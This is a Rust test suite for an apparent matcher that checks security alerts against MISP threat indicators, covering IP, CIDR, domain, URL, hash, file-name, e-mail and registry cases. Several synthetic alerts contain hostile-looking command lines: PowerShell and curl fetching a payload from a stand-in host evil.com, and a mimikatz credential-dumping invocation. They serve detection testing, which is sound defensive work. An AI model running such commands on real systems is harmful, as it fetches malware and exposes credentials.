//! DESIGN.md's matching semantics, clause by clause, each with positive and near-miss cases.
//! The MISP data and alerts are written out by hand here, not produced by the code under test.

use serde_json::{json, Value};

use crate::support::{matches, snapshot_from};

const SHA256: &str = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08";
const MD5: &str = "5d41402abc4b2a76b9719d911017c592";
const SHA1: &str = "aaf4c61ddcc5e8a2dabede0f3b482cd9aea9434d";

fn attribute(n: u32, misp_type: &str, value: &str, to_ids: bool, deleted: bool) -> Value {
    json!({"uuid": format!("10000000-0000-4000-8000-{n:012}"), "type": misp_type, "category": "Network activity",
           "value": value, "to_ids": to_ids, "deleted": deleted, "timestamp": "1764000000"})
}

fn misp_event() -> Value {
    let attributes = vec![
        attribute(1, "ip-dst", "1.2.3.4", true, false),
        attribute(2, "ip-src", "185.220.101.0/24", true, false),
        attribute(3, "ip-dst|port", "45.137.21.9|4444", true, false),
        attribute(4, "domain", "evil.com", true, false),
        attribute(5, "hostname", "host.bad.org", true, false),
        attribute(
            6,
            "url",
            "http://evil.com/path/Payload.exe?x=1",
            true,
            false,
        ),
        attribute(7, "sha256", SHA256, true, false),
        attribute(8, "md5", MD5, true, false),
        attribute(
            9,
            "filename|sha1",
            &format!("dropper.exe|{SHA1}"),
            true,
            false,
        ),
        attribute(10, "filename", "mimikatz.exe", true, false),
        attribute(11, "email-src", "attacker@phish.net", true, false),
        attribute(12, "domain|ip", "c2.panel.io|193.42.33.7", true, false),
        attribute(13, "ip-dst", "2a0e:1c80::/32", true, false),
        attribute(14, "ip-dst", "2a01:111:f402:ac00::f134", true, false),
        attribute(15, "ip-dst", "85.116.200.11", true, false),
        attribute(16, "ip-dst", "9.9.9.10", false, false),
        attribute(17, "domain", "deleted.com", true, true),
        attribute(18, "ip-dst", "8.8.8.8", true, false),
        attribute(19, "user-agent", "EvilAgent/6.6", true, false),
        attribute(20, "regkey", "HKLM\\Software\\Run\\evil", true, false),
        attribute(21, "uri", "/wp-content/evil.php", true, false),
    ];
    json!({"Event": {"id": "42", "uuid": "20000000-0000-4000-8000-000000000042", "info": "semantics", "threat_level_id": "1",
                     "Tag": [{"name": "tlp:amber"}], "Attribute": attributes}})
}

fn public_dns_list() -> Value {
    json!({"name": "public-dns", "type": "cidr", "list": ["8.8.8.8"], "matching_attributes": ["ip-src", "ip-dst"], "description": "d", "version": 1})
}

fn alert(data: Value, full_log: Option<&str>) -> String {
    let mut alert = json!({"timestamp": "2026-11-26T10:00:00.000+0000", "rule": {"level": 10, "id": "1", "description": "t"},
                           "agent": {"id": "001", "name": "a"}, "manager": {"name": "m"}, "id": "1.1", "decoder": {"name": "t"}, "location": "t", "data": data});
    if let Some(text) = full_log {
        alert["full_log"] = json!(text);
    }
    alert.to_string()
}

fn eventdata(fields: Value) -> Value {
    json!({"win": {"system": {"providerName": "Microsoft-Windows-Sysmon", "eventID": "1"}, "eventdata": fields}})
}

/// Runs one table: (case name, alert, expected MISP values (any order)).
fn check(cases: &[(&str, String, &[&str])], warninglists: &[Value], include_non_ids: bool) {
    let snapshot = snapshot_from(&[misp_event()], warninglists, include_non_ids);
    for (name, alert, want) in cases {
        let got = matches(&snapshot, alert);
        let mut got_values: Vec<&str> = got.iter().map(|(_, _, value)| value.as_str()).collect();
        got_values.sort_unstable();
        let mut want: Vec<&str> = want.to_vec();
        want.sort_unstable();
        assert_eq!(got_values, want, "case {name:?}: got {got:?}");
    }
}

#[test]
fn ip_clauses() {
    check(
        &[
            (
                "exact in srcip",
                alert(json!({"srcip": "1.2.3.4"}), None),
                &["1.2.3.4"],
            ),
            (
                "exact in free text",
                alert(json!({}), Some("Invalid user x from 1.2.3.4 port 22")),
                &["1.2.3.4"],
            ),
            (
                "11.2.3.45 is not 1.2.3.4",
                alert(json!({}), Some("Invalid user x from 11.2.3.45 port 22")),
                &[],
            ),
            (
                "1.2.3.45 is not 1.2.3.4",
                alert(json!({"srcip": "1.2.3.45"}), None),
                &[],
            ),
            (
                "inside a CIDR",
                alert(json!({"srcip": "185.220.101.255"}), None),
                &["185.220.101.0/24"],
            ),
            (
                "CIDR lower edge",
                alert(json!({"srcip": "185.220.101.0"}), None),
                &["185.220.101.0/24"],
            ),
            (
                "just below the CIDR",
                alert(json!({"srcip": "185.220.100.255"}), None),
                &[],
            ),
            (
                "just above the CIDR",
                alert(json!({"srcip": "185.220.102.0"}), None),
                &[],
            ),
            (
                "ip|port part, other port",
                alert(json!({"dstip": "45.137.21.9", "dstport": "80"}), None),
                &["45.137.21.9|4444"],
            ),
            (
                "a port alone never matches",
                alert(json!({"dstport": "4444"}), Some("connection to port 4444")),
                &[],
            ),
            (
                "host:port value",
                alert(
                    json!({"office365": {"ClientIP": "45.137.21.9:51514"}}),
                    None,
                ),
                &["45.137.21.9|4444"],
            ),
            (
                "[v6]:port value",
                alert(
                    json!({"office365": {"ClientIP": "[2a01:111:f402:ac00::f134]:51514"}}),
                    None,
                ),
                &["2a01:111:f402:ac00::f134"],
            ),
            (
                "uncompressed IPv6 in a v6 CIDR",
                alert(
                    eventdata(json!({"destinationIp": "2a0e:1c80:0:0:0:0:0:1"})),
                    None,
                ),
                &["2a0e:1c80::/32"],
            ),
            (
                "IPv6 outside the CIDR",
                alert(eventdata(json!({"destinationIp": "2a0e:1c81::1"})), None),
                &[],
            ),
            (
                "IPv4-mapped dotted",
                alert(eventdata(json!({"ipAddress": "::ffff:1.2.3.4"})), None),
                &["1.2.3.4"],
            ),
            (
                "IPv4-mapped hex",
                alert(eventdata(json!({"ipAddress": "::ffff:5574:c80b"})), None),
                &["85.116.200.11"],
            ),
            (
                "domain|ip by its IP",
                alert(json!({"dest_ip": "193.42.33.7"}), None),
                &["c2.panel.io|193.42.33.7"],
            ),
        ],
        &[],
        false,
    );
}

#[test]
fn host_clauses() {
    check(
        &[
            (
                "domain itself",
                alert(eventdata(json!({"queryName": "evil.com"})), None),
                &["evil.com"],
            ),
            (
                "sub-domain, mixed case, trailing dot",
                alert(eventdata(json!({"queryName": "A.b.EVIL.com."})), None),
                &["evil.com"],
            ),
            (
                "notevil.com",
                alert(eventdata(json!({"queryName": "notevil.com"})), None),
                &[],
            ),
            (
                "evil.community",
                alert(eventdata(json!({"queryName": "evil.community"})), None),
                &[],
            ),
            (
                "evil.com followed by more labels",
                alert(eventdata(json!({"queryName": "evil.com.other.net"})), None),
                &[],
            ),
            (
                "notevil.com in free text",
                alert(json!({}), Some("resolved notevil.com and evil.community")),
                &[],
            ),
            (
                "hostname exact",
                alert(
                    eventdata(json!({"destinationHostname": "host.bad.org"})),
                    None,
                ),
                &["host.bad.org"],
            ),
            (
                "hostname case-insensitive",
                alert(
                    eventdata(json!({"destinationHostname": "HOST.Bad.ORG"})),
                    None,
                ),
                &["host.bad.org"],
            ),
            (
                "sub-domain of a hostname is not it",
                alert(
                    eventdata(json!({"destinationHostname": "x.host.bad.org"})),
                    None,
                ),
                &[],
            ),
            (
                "parent of a hostname is not it",
                alert(eventdata(json!({"destinationHostname": "bad.org"})), None),
                &[],
            ),
            (
                "domain|ip by its domain",
                alert(
                    json!({"http": {"hostname": "c2.panel.io", "url": "/"}}),
                    None,
                ),
                &["c2.panel.io|193.42.33.7"],
            ),
            (
                "e-mail domain is checked",
                alert(json!({}), Some("mail from bob@mx.evil.com rejected")),
                &["evil.com"],
            ),
            (
                "defanged domain",
                alert(json!({}), Some("beacon to evil[.]com seen")),
                &["evil.com"],
            ),
        ],
        &[],
        false,
    );
}

#[test]
fn url_clauses() {
    let cmd = |url: &str| {
        alert(
            eventdata(json!({"commandLine": format!("powershell -c \"iwr '{url}'\"")})),
            None,
        )
    };
    check(
        &[
            (
                "same URL, scheme/host case and default port",
                cmd("HTTP://Evil.COM:80/path/Payload.exe?x=1"),
                &["http://evil.com/path/Payload.exe?x=1", "evil.com"],
            ),
            (
                "path case differs",
                cmd("http://evil.com/path/payload.exe?x=1"),
                &["evil.com"],
            ),
            (
                "other port",
                cmd("http://evil.com:8080/path/Payload.exe?x=1"),
                &["evil.com"],
            ),
            (
                "other scheme",
                cmd("https://evil.com/path/Payload.exe?x=1"),
                &["evil.com"],
            ),
            (
                "other query",
                cmd("http://evil.com/path/Payload.exe?x=2"),
                &["evil.com"],
            ),
            (
                "defanged URL",
                cmd("hxxp://evil[.]com/path/Payload.exe?x=1"),
                &["http://evil.com/path/Payload.exe?x=1", "evil.com"],
            ),
            (
                "uri path of a web log",
                alert(
                    json!({"srcip": "10.1.1.1", "url": "/wp-content/evil.php?id=1"}),
                    None,
                ),
                &["/wp-content/evil.php"],
            ),
            (
                "another path",
                alert(
                    json!({"srcip": "10.1.1.1", "url": "/wp-content/evil.php5"}),
                    None,
                ),
                &[],
            ),
        ],
        &[],
        false,
    );
}

#[test]
fn hash_and_file_clauses() {
    let hashes = format!(
        "SHA1={},MD5={},SHA256={},IMPHASH=00000000000000000000000000000000",
        SHA1.to_uppercase(),
        MD5.to_uppercase(),
        "AB".repeat(32)
    );
    check(
        &[
            (
                "upper-case FIM hash",
                alert(json!({}), None).replace(
                    "\"data\":{}",
                    &format!(
                        "\"syscheck\":{{\"path\":\"/tmp/x\",\"sha256_after\":\"{}\"}}",
                        SHA256.to_uppercase()
                    ),
                ),
                &[SHA256],
            ),
            (
                "Sysmon hashes split",
                alert(eventdata(json!({"hashes": hashes})), None),
                &[MD5, &format!("dropper.exe|{SHA1}")],
            ),
            (
                "file name field",
                alert(
                    eventdata(json!({"image": "C:\\\\Tools\\\\MIMIKATZ.exe"})),
                    None,
                ),
                &["mimikatz.exe"],
            ),
            (
                "composite file-name part",
                alert(
                    eventdata(json!({"targetFilename": "C:\\\\Users\\\\x\\\\dropper.exe"})),
                    None,
                ),
                &[&format!("dropper.exe|{SHA1}")],
            ),
            (
                "file name in free text never matches",
                alert(
                    eventdata(
                        json!({"commandLine": "C:\\\\Tools\\\\mimikatz.exe privilege::debug"}),
                    ),
                    Some("ran mimikatz.exe"),
                ),
                &[],
            ),
            (
                "other file name",
                alert(
                    eventdata(json!({"image": "C:\\\\Tools\\\\mimikatz2.exe"})),
                    None,
                ),
                &[],
            ),
            (
                "hash in free text",
                alert(json!({}), Some(&format!("sample {MD5} quarantined"))),
                &[MD5],
            ),
            (
                "hash in a long unnamed field with no dot or colon",
                alert(
                    json!({"scanner": {"note": format!("sample {MD5} quarantined by av")}}),
                    None,
                ),
                &[MD5],
            ),
            (
                "hash split by a dash in a long unnamed field",
                alert(
                    json!({"scanner": {"note": format!("id {}-{} seen", &MD5[..16], &MD5[16..])}}),
                    None,
                ),
                &[],
            ),
            (
                "longer hex is no md5",
                alert(json!({}), Some(&format!("sample {MD5}00 quarantined"))),
                &[],
            ),
            (
                "every match reported",
                alert(
                    eventdata(
                        json!({"hashes": format!("MD5={MD5}"), "commandLine": "curl http://evil.com/path/Payload.exe?x=1"}),
                    ),
                    None,
                ),
                &[MD5, "http://evil.com/path/Payload.exe?x=1", "evil.com"],
            ),
        ],
        &[],
        false,
    );
}

#[test]
fn text_and_email_clauses() {
    check(
        &[
            (
                "e-mail field",
                alert(json!({"office365": {"UserId": "Attacker@Phish.net"}}), None),
                &["attacker@phish.net"],
            ),
            (
                "e-mail in free text",
                alert(json!({}), Some("From: attacker@phish.net")),
                &["attacker@phish.net"],
            ),
            (
                "user-agent in free text",
                alert(
                    json!({}),
                    Some("\"GET / HTTP/1.1\" 200 1 \"-\" \"EvilAgent/6.6\""),
                ),
                &["EvilAgent/6.6"],
            ),
            (
                "user-agent inside a longer word",
                alert(
                    json!({}),
                    Some("\"GET / HTTP/1.1\" 200 1 \"-\" \"NotEvilAgent/6.66\""),
                ),
                &[],
            ),
            (
                "registry key, long hive name",
                alert(
                    eventdata(
                        json!({"targetObject": "HKEY_LOCAL_MACHINE\\\\Software\\\\Run\\\\evil"}),
                    ),
                    None,
                ),
                &["HKLM\\Software\\Run\\evil"],
            ),
        ],
        &[],
        false,
    );
}

#[test]
fn ids_deleted_warninglists() {
    let cases = [
        (
            "to_ids=false",
            alert(json!({"srcip": "9.9.9.10"}), None),
            &[][..],
        ),
        (
            "deleted",
            alert(eventdata(json!({"queryName": "deleted.com"})), None),
            &[][..],
        ),
        (
            "warninglisted",
            alert(json!({"srcip": "8.8.8.8"}), None),
            &[][..],
        ),
    ];
    check(&cases, &[public_dns_list()], false);
    check(
        &[
            (
                "to_ids=false with include_non_ids",
                alert(json!({"srcip": "9.9.9.10"}), None),
                &["9.9.9.10"],
            ),
            (
                "not warninglisted without lists",
                alert(json!({"srcip": "8.8.8.8"}), None),
                &["8.8.8.8"],
            ),
            (
                "deleted even with include_non_ids",
                alert(eventdata(json!({"queryName": "deleted.com"})), None),
                &[],
            ),
        ],
        &[],
        true,
    );
}

#[test]
fn fields_are_reported() {
    let snapshot = snapshot_from(&[misp_event()], &[], false);
    let got = matches(
        &snapshot,
        &alert(
            json!({"srcip": "1.2.3.4"}),
            Some("Invalid user from 1.2.3.4 port 1"),
        ),
    );
    assert_eq!(
        got,
        vec![(
            "1.2.3.4".to_string(),
            "data.srcip".to_string(),
            "1.2.3.4".to_string()
        )]
    );
    let got = matches(
        &snapshot,
        &alert(eventdata(json!({"commandLine": "ping evil.com"})), None),
    );
    assert_eq!(
        got,
        vec![(
            "evil.com".to_string(),
            "data.win.eventdata.commandLine".to_string(),
            "evil.com".to_string()
        )]
    );
    let got = matches(&snapshot, &alert(json!({}), Some("to 1.2.3.4")));
    assert_eq!(got[0].1, "full_log");
}

#[test]
fn windows_event_message() {
    // Windows renders `eventdata` into `system.message`; fields skipped on purpose (the
    // user, the working directory) must not come back through the rendering, while an event
    // without `eventdata` is read from its message.
    let event = |eventdata: Value, message: &str| {
        let mut win = json!({"system": {"providerName": "Microsoft-Windows-Security-Auditing", "eventID": "4688",
                                        "message": message}});
        if !eventdata.is_null() {
            win["eventdata"] = eventdata;
        }
        alert(json!({ "win": win }), None)
    };
    let with_system_note = |alert: String| {
        let mut alert: Value = serde_json::from_str(&alert).unwrap();
        alert["data"]["win"]["system"]["note"] = json!("relay evil.com");
        alert.to_string()
    };
    check(
        &[
            (
                "message without eventdata is free text",
                event(
                    Value::Null,
                    "\"A new process has been created.\r\nProcess Command Line: ping evil.com\"",
                ),
                &["evil.com"],
            ),
            (
                "message rendering eventdata adds nothing",
                event(
                    json!({"commandLine": "ping notevil.com", "currentDirectory": "C:\\\\evil.com\\\\"}),
                    "\"Process Create:\r\nCommandLine: ping notevil.com\r\nCurrentDirectory: C:\\evil.com\\\"",
                ),
                &[],
            ),
            (
                "eventdata still matches beside its rendering",
                event(
                    json!({"commandLine": "ping evil.com"}),
                    "\"Process Create:\r\nCommandLine: ping evil.com\"",
                ),
                &["evil.com"],
            ),
            (
                "empty eventdata: the message is read",
                event(json!({}), "\"Connection to 1.2.3.4 blocked\""),
                &["1.2.3.4"],
            ),
            (
                "beside eventdata the whole system block is bookkeeping",
                with_system_note(event(json!({"commandLine": "ping notevil.com"}), "\"x\"")),
                &[],
            ),
            (
                "without eventdata the system block is read",
                with_system_note(event(Value::Null, "\"x\"")),
                &["evil.com"],
            ),
        ],
        &[],
        false,
    );
    let snapshot = snapshot_from(&[misp_event()], &[], false);
    let got = matches(
        &snapshot,
        &event(
            json!({"commandLine": "ping evil.com"}),
            "\"Process Create:\r\nCommandLine: ping evil.com\"",
        ),
    );
    assert_eq!(got[0].1, "data.win.eventdata.commandLine");
}
